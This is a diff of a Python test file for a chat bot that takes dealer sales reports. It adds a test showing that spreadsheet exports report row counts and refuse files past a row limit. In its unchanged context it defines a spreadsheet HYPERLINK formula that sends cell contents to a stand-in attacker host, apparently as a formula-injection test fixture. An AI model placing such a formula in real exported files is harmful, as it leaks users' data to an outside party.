@@ -5,12 +5,12 @@ from __future__ import annotations
 import io
 
 from openpyxl import load_workbook
-from sqlalchemy import update
+from sqlalchemy import delete, update
 
 from handlers.core.conversation import Conversation
 from handlers.core.messages import Reply
 from handlers.core.options import CoreOptions
-from storage.models import DealerRow
+from storage.models import DealerRow, OutboxRow
 from tests.support import Chat, invite, seed_catalog
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
@@ -172,3 +172,42 @@ def test_a_large_export_reads_its_rows_without_holding_up_a_report_sent_meanwhil
     assert sent.document is not None, sent.text
     ws = load_workbook(io.BytesIO(sent.document.content)).active
     assert [c.value for c in ws["E"][1:]] == [2, 3, 4]
+
+
+def test_a_large_export_counts_what_its_file_holds_and_says_so_when_it_grew_past_the_limit(
+    uow_factory, clock, monkeypatch
+):
+    seed_catalog(uow_factory)
+    options = CoreOptions(export_inline_rows=1, export_max_rows=3)
+    conv = Conversation(uow_factory, clock, options)
+    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
+    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
+    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
+    dealer.say("/report A100 2 3500 T-0001")
+    dealer.say("/report A100 3 3500 T-0001")
+    held: list = []
+    monkeypatch.setattr(
+        conv.background, "submit", lambda name, job, failed: held.append(job) or True
+    )
+
+    def run_held() -> Reply:
+        with uow_factory() as uow:
+            held.pop()(uow)
+            uow.commit()
+        with uow_factory() as uow:
+            [item] = [i for i in uow.outbox.list(limit=50) if i.chat_id == "boss"]
+            uow.session.execute(delete(OutboxRow))
+            uow.commit()
+        return Reply.from_dict(item.payload)
+
+    [first] = boss.send("/export sales 2026-07")
+    dealer.say("/report A100 4 3500 T-0001")  # after the count, before the file
+    sent = run_held()
+    assert "共 2 行" in first.text and sent.document is not None and "共 3 行" in sent.text
+    ws = load_workbook(io.BytesIO(sent.document.content)).active
+    assert [c.value for c in ws["E"][1:]] == [2, 3, 4]
+
+    boss.send("/export sales 2026-07")
+    dealer.say("/report A100 5 3500 T-0001")  # now past export_max_rows (3)
+    refused = run_held()
+    assert refused.document is None and "超过 3 行" in refused.text
